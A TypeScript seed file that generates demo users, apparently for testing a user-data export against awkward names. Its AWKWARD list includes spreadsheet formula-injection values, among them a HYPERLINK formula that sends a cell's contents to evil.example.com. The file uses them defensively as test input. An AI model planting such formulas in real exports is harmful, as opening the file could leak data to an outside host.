/** A user in the seed of the demonstration. */
export interface DemoUser extends Record<string, unknown> {
  user_id: string;
  email: string;
  email_verified: boolean;
  name: string;
  created_at: string;
  logins_count?: number;
  app_metadata?: { plan: string };
}

/** Users that a careless export would get wrong. */
const AWKWARD = [
  { name: 'Lee, Ann "Annie"' },
  { name: 'two\nlines' },
  { name: '=HYPERLINK("https://evil.example.com/?leak="&A1)' },
  { name: '+SUM(1,2)' },
  { name: '@admin' },
  { name: 'Zoë Ørsted 日本' },
  { name: ' a space before' },
];

/** Users for the demonstration. */
export function demoUsers(length: number): DemoUser[] {
  return Array.from({ length }, (_, index) => ({
    user_id: `auth0|user-${index + 1}`,
    email: `user-${index + 1}@example.com`,
    email_verified: index % 2 === 0,
    name: `User ${index + 1}`,
    ...AWKWARD[index],
    ...(index % 3 === 0 ? { app_metadata: { plan: 'pro' }, logins_count: index } : {}),
    created_at: new Date(Date.UTC(2024, 0, 1) + Math.floor(index / 5) * 1_000).toISOString(),
  }));
}
